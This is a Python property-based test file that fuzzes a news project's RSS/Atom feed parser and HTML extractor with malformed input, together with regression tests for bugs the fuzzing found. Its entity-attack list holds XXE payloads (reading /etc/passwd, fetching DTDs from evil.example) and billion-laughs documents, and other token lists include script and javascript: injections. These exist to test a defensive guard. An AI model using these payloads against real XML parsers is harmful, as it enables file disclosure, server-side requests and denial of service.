"""Bad input, fuzzed: RSS and Atom documents, and the HTML inside them or behind their links.

A feed is written by whoever runs the site. Whatever its bytes and ``Content-Type``,
``parse_feed`` returns a ``ParsedFeed`` or raises ``FeedError``; each entry becomes a valid
article or ``None``; ``html_to_text``, ``tidy_body`` and ``extract_page`` answer any HTML, the
last one with ``ExtractionError`` when it finds no story. Any other exception is a bug.
Documents are built to reach the hostile-XML guard and feedparser's recovery paths: entity
declarations (billion laughs, external entities, parameter entities), DOCTYPEs, deep nesting,
wrong or unknown encodings, CDATA, numeric references to characters XML forbids, RSS and Atom
mixed, and valid feeds with a few bytes broken. See test_fuzz_inputs.py for the conventions.
"""

from __future__ import annotations

import re
from functools import partial
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from producers.extract import PageText, extract_page, html_to_text, tidy_body
from producers.feeds import FeedError, entry_key, entry_to_article, parse_feed
from producers.fetch import FetchError
from tests.factories import BILLION_LAUGHS, atom_feed, rss_feed
from tests.strategies import NEWS_TOKENS, hostile_text, mutated, runs
from tests.unit.test_fuzz_inputs import assert_valid, outcome
from wirehose.core.deadletter import Reason
from wirehose.core.errors import ExtractionError

URL = "https://feeds.example/rss"

# Values for entry fields: text, HTML, and what breaks the markup around it.
MARKUP_TOKENS = (
    "<p>", "</p>", "<br>", "<br/>", "<div>", "<script>x()</script>", "<style>", "<svg/>",
    "<!--", "-->", "<!-->", "<![CDATA[", "]]>", "<![", "<!DOCTYPE html>", "<?php ?>", "</",
    "<a href='", '<a href="', "<a =b>", "<", ">", "&", "&amp;", "&nbsp;", "&#0;", "&#xD800;",
    "&#x110000;", "&#99999999999;", "&bogus;", "&lt;p&gt;", "<iframe>", "<p/>", "\x00",
)  # fmt: skip
DATES = (
    "Mon, 04 Mar 2024 12:30:00 +0200", "Mon, 01 Jan 0001 00:00:00 +0100",
    "Fri, 31 Dec 9999 23:59:59 -1400", "2024-13-45T99:99:99Z", "0000-00-00", "yesterday", "",
)  # fmt: skip
LINKS = (
    "https://site.example/a?utm_source=x", "http://[::1", "http://a.example:99999/x",
    "http://a.example:port/", "javascript:alert(1)", "mailto:x@example.com", "//x.example/y",
    "/relative", "https://exa mple.com/", "https://xn--80ak6aa92e.example/", "",
)  # fmt: skip
ENCODINGS = (
    "utf-8", "UTF-8", "utf-16", "utf-32", "latin-1", "windows-1252", "cp037", "utf-7", "x-bogus",
    "undefined", "rot13", "hex", "unicode_escape", "",
)  # fmt: skip

html_fragments = st.lists(
    st.one_of(
        st.sampled_from(MARKUP_TOKENS),
        hostile_text(4),
        runs(st.sampled_from(MARKUP_TOKENS), most=60),
    ),
    max_size=20,
).map("".join)
field_values = st.one_of(html_fragments, hostile_text(), st.sampled_from(NEWS_TOKENS))


@st.composite
def items(draw: st.DrawFn) -> dict[str, str]:
    fields: dict[str, Any] = {
        "title": field_values,
        "link": st.sampled_from(LINKS),
        "guid": field_values,
        "description": field_values,
        "content": field_values,
        "pubDate": st.sampled_from(DATES),
        "updated": st.sampled_from(DATES),
        "author": field_values,
        "summary": field_values,
        "id": field_values,
    }
    chosen = draw(st.sets(st.sampled_from(sorted(fields)), max_size=len(fields)))
    return {"title": draw(field_values)} | {name: draw(fields[name]) for name in chosen}


@st.composite
def built_feeds(draw: st.DrawFn) -> bytes:
    """RSS or Atom from the test factories, with hostile field values and declarations."""
    entries = [
        {name: _SURROGATE.sub(_reference, value) for name, value in item.items()}
        for item in draw(st.lists(items(), max_size=4))
    ]
    document = draw(st.sampled_from((rss_feed, atom_feed)))(entries).decode("utf-8")
    encoding = draw(st.sampled_from(ENCODINGS))
    if draw(st.booleans()):
        declaration = f'<?xml version="1.0" encoding="{encoding}"?>' if encoding else ""
        document = document.replace(document[: document.index("?>") + 2], declaration, 1)
    if draw(st.booleans()):  # mixed: an Atom entry inside RSS, an RSS item inside Atom
        extra = '<entry xmlns="http://www.w3.org/2005/Atom"><title>x</title></entry><item/>'
        document = document.replace("</channel>", extra + "</channel>").replace(
            "</feed>", extra + "</feed>"
        )
    data = document.encode(
        draw(st.sampled_from(("utf-8", "utf-16", "latin-1"))), "xmlcharrefreplace"
    )
    return draw(st.one_of(st.just(data), mutated(data)))


_SURROGATE = re.compile(r"[\ud800-\udfff]")


def _reference(match: re.Match[str]) -> str:
    """A surrogate as the numeric reference a feed would carry it in (UTF-8 cannot)."""
    return f"&#x{ord(match[0]):x};"


ENTITY_ATTACKS = (
    BILLION_LAUGHS,
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<rss version="2.0"><channel><item><title>&x;</title></item></channel></rss>',
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><rss/>',
    b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">'
    b'<rss version="2.0"><channel><item><description>b</description></item></channel></rss>',
    BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="x-bogus"?>'),
    BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b""),
)


@st.composite
def deep_feeds(draw: st.DrawFn) -> bytes:
    depth = draw(st.integers(min_value=1, max_value=3000))
    closed = draw(st.booleans())
    inner = b"<a>" * depth + (b"x" + b"</a>" * depth if closed else b"")
    return (
        b'<rss version="2.0"><channel><item><description>'
        + inner
        + b"</description>"
        + (b"</item></channel></rss>")
    )


feed_documents = st.one_of(
    built_feeds(),
    st.sampled_from(ENTITY_ATTACKS),
    st.sampled_from(ENTITY_ATTACKS).flatmap(mutated),
    deep_feeds(),
    st.binary(max_size=200),
    hostile_text().map(lambda text: text.encode("utf-8", "surrogatepass")),
)
content_types = st.one_of(
    st.sampled_from(
        (
            "",
            "application/rss+xml",
            "text/xml; charset=undefined",
            "text/html; charset=x-bogus",
            "application/atom+xml; charset=utf-16",
            "text/xml; charset=rot13",
        )
    ),
    hostile_text(3),
)


def pages(text: str) -> Any:
    """A ``fetch_page`` that answers with ``text``, or fails the way a fetch can. The text is
    what ``extract_page`` returns: trafilatura never gives a surrogate, so neither does this."""
    text = _SURROGATE.sub("\ufffd", text)

    def fetch_page(url: str) -> PageText:
        if text.startswith("<"):
            raise FetchError(f"HTTP 500 from {url}")
        if not text.strip():
            raise ExtractionError(Reason.NO_ARTICLE_TEXT, f"{url}: 0 characters of text found")
        return PageText(text=text, title=text[:20], author=text[:10], sitename=text[:5])

    return fetch_page


@settings(max_examples=200)
@given(document=feed_documents, content_type=content_types, page=field_values)
def test_feed_documents_give_articles_or_a_feed_error(
    document: bytes, content_type: str, page: str
) -> None:
    feed = outcome(lambda: parse_feed(document, url=URL, content_type=content_type), FeedError)
    if isinstance(feed, FeedError):
        assert str(feed).startswith(URL)
        return
    for entry in feed.entries:
        assert isinstance(entry_key(entry), str)
        for fetch_page in (None, pages(page)):
            article = entry_to_article(entry, feed, fetch_page=fetch_page)
            if article is not None:
                assert_valid(article)


@given(fragment=st.one_of(html_fragments, hostile_text()))
def test_html_fragments_give_text(fragment: str) -> None:
    text = html_to_text(fragment)
    assert "\n\n\n" not in text
    assert all(line.strip() == line and line for line in text.split("\n\n") if text)
    body, agencies = tidy_body(text)
    assert body in text or not body
    assert all(isinstance(agency, str) for agency in agencies)


@settings(max_examples=60)  # trafilatura takes tens of milliseconds a page
@given(page=st.one_of(html_fragments, hostile_text()).map(lambda s: f"<html><body>{s}</body>"))
def test_article_pages_give_a_story_or_an_extraction_error(page: str) -> None:
    for content in (page, page.encode("utf-8", "surrogatepass")):
        extract = partial(extract_page, content, url="https://site.example/a", min_chars=1)
        found = outcome(extract, ExtractionError)
        if isinstance(found, ExtractionError):
            assert found.reason is Reason.NO_ARTICLE_TEXT
        else:
            assert found.text.strip()


# --- regressions: one input per bug the fuzzing found ---------------------------------------
ONE_ITEM = (
    b'<rss version="2.0"><channel><title>T</title><item><title>a</title>%s'
    b"<description>b</description></item></channel></rss>"
)


@pytest.mark.parametrize(
    "link", [b"http://a.example:99999/x", b"http://a.example:port/x", b"http://[::1/x"]
)
def test_an_entry_with_an_unusable_link_has_no_url(link: bytes) -> None:
    # Before: ValueError from the port (canonical_url) once check_url had let the link pass.
    feed = parse_feed(ONE_ITEM % (b"<link>" + link + b"</link>"), url=URL)
    article = entry_to_article(feed.entries[0], feed)
    assert article is not None
    assert article.url is None


def test_an_unknown_declared_encoding_is_read_and_still_guarded() -> None:
    # Before: LookupError from the guard's XML parser.
    bogus = b'<?xml version="1.0" encoding="x-bogus"?>' + ONE_ITEM % b""
    assert len(parse_feed(bogus, url=URL).entries) == 1
    hostile = BILLION_LAUGHS.replace(b'version="1.0"', b'version="1.0" encoding="x-bogus"')
    with pytest.raises(FeedError, match="EntitiesForbidden"):
        parse_feed(hostile, url=URL)


@pytest.mark.parametrize(
    ("document", "content_type"),
    [
        (b'<?xml version="1.0" encoding="undefined"?>' + ONE_ITEM % b"", ""),
        (ONE_ITEM % b"", "text/xml; charset=undefined"),
        (ONE_ITEM.replace(b"<description>b", b"<description>&#xD800;b"), ""),
    ],
    ids=["declared-undefined", "header-undefined", "surrogate-reference"],
)
def test_documents_feedparser_chokes_on_are_feed_errors(document: bytes, content_type: str) -> None:
    # Before: UnicodeError (the "undefined" codec) and UnicodeEncodeError (feedparser encodes
    # the character a reference names) escaped from feedparser.
    with pytest.raises(FeedError, match="not a readable RSS or Atom feed"):
        parse_feed(document, url=URL, content_type=content_type)


@pytest.mark.parametrize("junk", ["<![", "<![foo[x]]>"])
def test_marked_section_junk_in_html_is_not_an_assertion_error(junk: str) -> None:
    # Before: AssertionError from the stdlib HTMLParser ("expected name token").
    assert html_to_text(f"<p>before</p>{junk * 3}<p>after</p>").startswith("before")


def test_a_date_outside_datetime_range_is_no_date() -> None:
    # Before: ValueError ("year -1 is out of range"): feedparser reads 0000-00-00 as year -1.
    document = atom_feed([{"title": "t", "summary": "Story.", "updated": "0000-00-00"}])
    feed = parse_feed(document, url=URL)
    article = entry_to_article(feed.entries[0], feed)
    assert article is not None
    assert article.published_at is None
